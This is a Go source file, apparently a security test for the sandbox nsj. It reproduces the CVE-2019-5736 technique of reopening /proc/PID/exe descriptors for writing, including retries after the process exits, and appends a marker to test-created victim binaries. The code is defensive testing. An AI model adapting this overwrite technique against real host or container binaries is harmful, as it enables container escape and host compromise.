package main

import (
	"errors"
	"fmt"
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

// marker is what the attacker appends to a victim it manages to open for writing.
const marker = "nsj security test: overwritten through /proc/PID/exe\n"

// memfdVictim stands for every memfd executable (nsj's sealed copy of its
// binary on kernels before 5.12): writing to one harms no file of the host,
// so the attacker tries all of them.
const memfdVictim = "memfd"

// maxPending bounds the saved descriptors per victim.
const maxPending = 8

// victim is a file the test made for the attacker to overwrite, with what
// became of each attempt.
type victim struct {
	id                    string // device:inode
	grabs, nowOK, laterOK int
	nowErr, laterErr      map[string]int // by errno name
	pending               int
}

// saved is a descriptor of a victim's executable kept to try again once the
// process that ran it has gone (CVE-2019-5736).
type saved struct {
	v       *victim
	fd, pid int
	key     string // PID/victim: one saved descriptor each
}

var pendings []*saved

// grab looks at a /proc/PID/exe descriptor: if it is a victim, it tries to
// write to it at once and keeps it for later. It reports whether it kept fd.
func (a *attacker) grab(pid, fd int) bool {
	var st unix.Stat_t
	if err := unix.Fstat(fd, &st); err != nil {
		return false
	}
	v := a.victims[fmt.Sprintf("%d:%d", st.Dev, st.Ino)]
	if link, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)); v == nil && strings.HasPrefix(link, "/memfd:") {
		v = a.victims[memfdVictim]
	}
	if v == nil {
		return false
	}
	key := fmt.Sprintf("%d/%s", pid, v.id)
	for _, s := range pendings {
		if s.key == key {
			return false
		}
	}
	v.grabs++
	path, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
	if v.grabs <= 20 {
		a.logf("GRAB pid=%d comm=%s exe=%q victim=%s", pid, comm(pid), path, v.id)
	}
	if err := writeThrough(fd); err != nil {
		v.nowErr[errName(err)]++
	} else {
		v.nowOK++
		a.logf("WROTE-NOW pid=%d victim=%s", pid, v.id)
	}
	if v.pending >= maxPending {
		return false
	}
	v.pending++
	pendings = append(pendings, &saved{v: v, fd: fd, pid: pid, key: key})
	return true
}

// retryPending tries again the saved descriptors of processes that have
// exited; a write that fails is tried again on the next round, for as long
// as the attack lasts: the binary is busy (ETXTBSY) while nsj runs again.
// With final set, it is the last round: what fails now failed for good.
func (a *attacker) retryPending(final bool) {
	keep := pendings[:0]
	for _, s := range pendings {
		if !final && exists(fmt.Sprintf("/proc/%d", s.pid)) {
			keep = append(keep, s)
			continue
		}
		err := writeThrough(s.fd)
		switch {
		case err == nil:
			s.v.laterOK++
			a.logf("WROTE-LATER pid=%d victim=%s", s.pid, s.v.id)
		case !final:
			keep = append(keep, s)
			continue
		default:
			s.v.laterErr[errName(err)]++
		}
		s.v.pending--
		unix.Close(s.fd)
	}
	pendings = keep
}

// writeThrough reopens fd for writing through its /proc/self/fd link, as
// the CVE-2019-5736 exploit did, and appends the marker.
func writeThrough(fd int) error {
	w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(w)
	_, err = unix.Write(w, []byte(marker))
	return err
}

func errName(err error) string {
	var errno unix.Errno
	if errors.As(err, &errno) {
		if name := unix.ErrnoName(errno); name != "" {
			return name
		}
	}
	return err.Error()
}

func errCounts(m map[string]int) string {
	if len(m) == 0 {
		return "-"
	}
	s := ""
	for k, n := range m {
		if s != "" {
			s += ","
		}
		s += fmt.Sprintf("%s:%d", k, n)
	}
	return s
}
